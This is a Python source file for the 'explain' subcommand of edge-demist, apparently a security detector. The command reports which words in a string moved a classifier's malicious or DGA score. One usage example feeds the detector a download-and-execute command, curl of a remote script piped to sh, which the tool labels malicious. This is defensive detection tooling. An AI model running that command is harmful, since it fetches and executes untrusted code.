"""``edge-demist explain``: an answer about one string, and the words that moved its score."""

from __future__ import annotations

import argparse
import json
from collections.abc import Sequence
from typing import Any

from edge_demist.cli.fit import AUTO, fitting
from edge_demist.cli.models import load_model
from edge_demist.cli.options import Example, add_fpr, add_json, add_model, command
from edge_demist.errors import InputError
from edge_demist.io import shown
from edge_demist.model import EdgeDemist, Prediction
from edge_demist.sensor.detect.explain import explain, reading, sentence

EXAMPLES = (
    Example(
        "edge-demist explain 'curl http://198.51.100.7/x.sh|sh' | head -n 1",
        "cmdline: malicious …",
    ),
    Example("edge-demist explain --task dga --json kernel.org", '{"text": "kernel.org", "task": "dga", "label": "legit", …}'),
)
NOTES = """
Each word is taken out in turn, and the specialist is asked again: a word counts by how far the score falls, in logits
(ln p/(1 - p)). Where no word moves the score by a logit, that is said. For long strings the part that decides is explained.
"""


def add_parser(subparsers: Any) -> None:
    """Register the command."""
    parser = command(subparsers, "explain", "the words that moved a score", EXAMPLES, NOTES, __doc__ or "")
    parser.add_argument("text", nargs="+", metavar="TEXT", help="a string; several are explained one after the other")
    parser.add_argument("--task", default=AUTO, help="specialist to ask (default auto: the one that fits the string)")
    add_fpr(parser, "alarm tasks: false-positive rate of the alarm, such as 1e-3")
    add_json(parser, "one JSON object a string")
    add_model(parser)


def run(args: argparse.Namespace) -> int:
    """Explain; 1 if a string has no answer."""
    failed = False
    with load_model(args) as model:
        if args.task != AUTO:
            model.specialist(args.task)
        for text in args.text:
            if not text:
                raise InputError("the text is empty")
            task = next(iter(fitting(model, [text])[0])) if args.task == AUTO else args.task
            alarms = model.specialist(task).kind == "alarm"
            prediction = model.classify([text], task=task, top_k=0, fpr=args.fpr if alarms else None)[0]
            failed |= prediction.error is not None
            print(*_lines(model, prediction, args.json, alarms=alarms), sep="\n")
    return int(failed)


def _word(word: str) -> str:
    plain = reading(word)
    return shown(word, 80) + (f"  read as  {shown(plain, 80)}" if plain else "")


def _lines(model: EdgeDemist, prediction: Prediction, as_json: bool, *, alarms: bool) -> list[str]:
    if prediction.error:
        found = {"text": prediction.text, "error": prediction.error}
        return [json.dumps(found) if as_json else f"error: {shown(prediction.error)}"]
    label = prediction.label if prediction.label in (prediction.scores or {}) else next(iter(prediction.scores or {"": 0.0}))

    def score(one: Prediction) -> float:
        return one.alarm_score if alarms else (one.scores or {}).get(label, 0.0)

    def ask(pairs: Sequence[tuple[str, str]]) -> list[float]:
        return [score(one) for one in model.classify([text for text, _ in pairs], task=[task for _, task in pairs], top_k=0)]

    read = prediction.text if prediction.window is None else prediction.window.text
    (why,) = explain([(read, prediction.task, score(prediction))], ask)
    text = sentence(why, score(prediction))
    if as_json:
        words = [{"start": r.start, "end": r.end, "word": r.word, "logits": round(r.logits, 2), "drop": round(r.drop, 6)} for r in why]
        return [json.dumps({**prediction.to_dict(), "why": words, "why_text": text})]
    alarm = ""
    if prediction.threshold is not None:
        alarm = f", alarm score {prediction.alarm_score:.4f} ({'alarm' if prediction.alarm else 'no alarm'} at {prediction.threshold:.4f})"
    part = [] if prediction.window is None else [f"  about bytes {prediction.window.begin} to {prediction.window.end}: {shown(read, 100)}"]
    head = f"{prediction.task}: {prediction.label} {prediction.score:.4f}{alarm}"
    return [head, *part, *(f"  {r.logits:+6.1f}  {_word(r.word)}" for r in why), f"  {shown(text, 400)}"]
